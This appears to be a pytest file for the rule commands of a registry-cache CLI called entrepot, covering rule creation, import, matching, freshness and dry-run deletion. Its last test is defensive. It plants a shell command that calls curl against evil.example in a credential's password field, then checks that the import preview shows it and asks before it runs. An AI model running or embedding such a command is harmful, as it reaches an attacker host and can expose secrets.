"""``entrepot rule`` on a real engine."""

from __future__ import annotations

from pathlib import Path

from entrepot.engine.engine import Engine
from tests.cli.conftest import SET, CommandLine
from tests.conftest import LOGIN_SERVER
from tests.fakes import FakeRegistry

RULE_KEYS = {
    "repositories",
    "size",
    "name",
    "sourceRepository",
    "targetRepository",
    "credentialSet",
    "created",
    "loginServer",
    "pulls",
    "lastPull",
    "freshness",
    "freshnessInForce",
    "requestsMade",
    "requestsSaved",
    "readers",
    "anonymous",
    "readableBy",
}


async def test_a_rule_from_its_creation_to_its_end(entrepot: CommandLine, engine: Engine) -> None:
    made = await entrepot.ask(
        "rule",
        "create",
        "--name",
        "acme-api",
        "--source-repo",
        f"{LOGIN_SERVER}/acme/api",
        "--target-repo",
        "api",
    )
    assert made.keys() == RULE_KEYS
    assert (
        made["name"],
        made["sourceRepository"],
        made["targetRepository"],
        made["credentialSet"],
    ) == ("acme-api", f"{LOGIN_SERVER}/acme/api", "api", None)
    assert [each["name"] for each in await entrepot.ask("rule", "list")] == [
        "acme-api",
        "example-library",
    ]
    assert await entrepot.ask("rule", "show", "--name", "ACME-API") == made
    await entrepot.done("credential-set", "create", "-n", "example-set", *SET)
    assert (await entrepot.ask("rule", "update", "-n", "acme-api", "-c", "example-set"))[
        "credentialSet"
    ] == "example-set"
    assert (await entrepot.ask("rule", "update", "-n", "acme-api", "--remove-cred-set"))[
        "credentialSet"
    ] is None
    result = await entrepot.done("rule", "delete", "-n", "acme-api", "--yes")
    assert (result.output, result.errors) == ("", "The cache rule acme-api is deleted.\n")
    assert [rule.name for rule in engine.documents.rules] == ["example-library"]


async def test_rules_are_listed_in_columns(entrepot: CommandLine) -> None:
    title, line = (await entrepot.done("rule", "list")).output.splitlines()
    assert title.split("  ")[0] == "Name"
    assert line.split() == [
        "example-library",
        f"{LOGIN_SERVER}/library/*",
        "library/*",
        "-",
        "5",
        "min",
        "0",
        "never",
    ]


async def test_a_rule_is_shown_in_lines(entrepot: CommandLine) -> None:
    output = (await entrepot.done("rule", "show", "--name", "example-library")).output
    assert f"Source             {LOGIN_SERVER}/library/*\n" in output
    assert "Credential set     none\n" in output
    assert "Tag lifetime       5 min (default)\n" in output


async def test_rules_are_imported_all_or_none(
    entrepot: CommandLine, engine: Engine, tmp_path: Path
) -> None:
    good = f'[[rules]]\nname = "acme-app"\nsource_repository = "{LOGIN_SERVER}/acme/*"\ntarget_repository = "acme/*"\n'
    file = tmp_path / "rules.toml"
    file.write_text(good + good.replace("acme-app", "acme-two"))
    refused = await entrepot.run("rule", "import", str(file))
    assert (refused.status, len(engine.documents.rules)) == (1, 1)
    assert "Error: line 5: acme-two: " in refused.errors
    assert refused.errors.endswith("Nothing is imported.\n")
    file.write_text(good)
    assert (
        await entrepot.done("rule", "import", "--dry-run", str(file))
    ).errors == "1 would be imported, 0 unchanged.\n"
    assert len(engine.documents.rules) == 1
    assert (await entrepot.done("rule", "import", str(file))).errors == "1 imported, 0 unchanged.\n"
    assert [
        each["outcome"] for each in (await entrepot.ask("rule", "import", str(file)))["entries"]
    ] == ["unchanged"]
    assert len(engine.documents.rules) == 2


async def test_which_rule_answers_for_an_image(entrepot: CommandLine) -> None:
    output = (await entrepot.done("rule", "match", "library/nginx:1.27")).output
    assert (
        f"Rule            example-library\nSource          {LOGIN_SERVER}/library/nginx\n" in output
    )
    none = await entrepot.run("rule", "match", "nginx")
    assert (none.status, "example-library: library/* from" in none.output) == (1, True)


async def test_a_dry_run_of_a_deletion_deletes_nothing(
    entrepot: CommandLine, engine: Engine, source: FakeRegistry
) -> None:
    source.add_image("library/nginx", "1.27", platforms=["linux/amd64"])
    await entrepot.done("pull", "library/nginx:1.27", "--platform", "linux/amd64")
    output = (await entrepot.done("repository", "delete", "library/nginx", "--dry-run")).output
    assert "Would be deleted  library/nginx\nDeletes           1 tag, 2 manifests, " in output
    assert (
        await entrepot.done("rule", "delete", "--name", "example-library", "--dry-run")
    ).output.endswith("Left without a rule  library/nginx\n")
    await entrepot.done("repository", "lock", "library/nginx")
    refused = await entrepot.run("repository", "delete", "library/nginx", "--dry-run")
    assert (refused.status, "Refused " in refused.output) == (1, True)
    assert (
        [each.name for each in engine.documents.rules],
        await engine.catalog.repository_names(),
    ) == (["example-library"], ["library/nginx"])


async def test_the_freshness_of_a_rule_is_given_changed_and_taken_back(
    entrepot: CommandLine,
) -> None:
    arguments = ("--source-repo", f"{LOGIN_SERVER}/acme/api", "--target-repo", "api")
    assert (
        await entrepot.ask("rule", "create", "-n", "acme-api", *arguments, "--freshness", "90s")
    )["freshness"] == "90 s"
    assert (await entrepot.ask("rule", "update", "-n", "acme-api", "--freshness", "never"))[
        "freshness"
    ] == "never"
    changed = await entrepot.ask("rule", "update", "-n", "acme-api", "--freshness", "default")
    assert (changed["freshness"], changed["freshnessInForce"]) == (None, "5 min")
    refused = await entrepot.run("rule", "update", "-n", "acme-api", "--freshness", "soon")
    assert refused.status == 1
    assert "'soon' is not a tag lifetime" in refused.errors
    assert "FreshnessInvalid" in refused.errors


async def test_an_import_shows_where_its_secrets_are_kept_and_asks_before_programs_run(
    entrepot: CommandLine, engine: Engine, tmp_path: Path
) -> None:
    """S13: a file from the net must not run a program that its preview does not show."""
    file = tmp_path / "net.toml"
    program = "command:/bin/sh -c 'curl evil.example'"
    file.write_text(
        f'[[credential_sets]]\nname = "net-login"\nlogin_server = "{LOGIN_SERVER}"\nusername_id = "env:AWS_SECRET"\npassword_id = "{program}"\n'
        '[[credential_sets]]\nname = "odd-login"\nlogin_server = "contoso.azurecr.io"\nusername_id = "hunter2"\npassword_id = "env:P"\n'
    )
    shown = await entrepot.run("rule", "import", str(file), "--dry-run")
    head, first, second = shown.output.splitlines()
    assert head.split("  ")[-1].strip() == "Password"
    assert all(
        part in first
        for part in (LOGIN_SERVER, "create, runs a program", "env:AWS_SECRET", program)
    )
    assert all(part in second for part in ("contoso.azurecr.io", "conflict", "env:P"))
    # What is no identifier may be the secret itself.
    assert "hunter2" not in shown.output + shown.errors
    text = file.read_text()
    file.write_text(text[: text.index("[[credential_sets]]", 5)])
    refused = await entrepot.run("rule", "import", str(file))
    assert (refused.status, program in refused.errors, "--yes" in refused.errors) == (2, True, True)
    assert len(engine.documents.credential_sets) == 0
    done = await entrepot.done("rule", "import", str(file), "--yes")
    assert done.errors == "1 imported, 0 unchanged.\n"
    # What is there already is not made again, and nobody is asked.
    assert (await entrepot.done("rule", "import", str(file))).errors == "0 imported, 1 unchanged.\n"
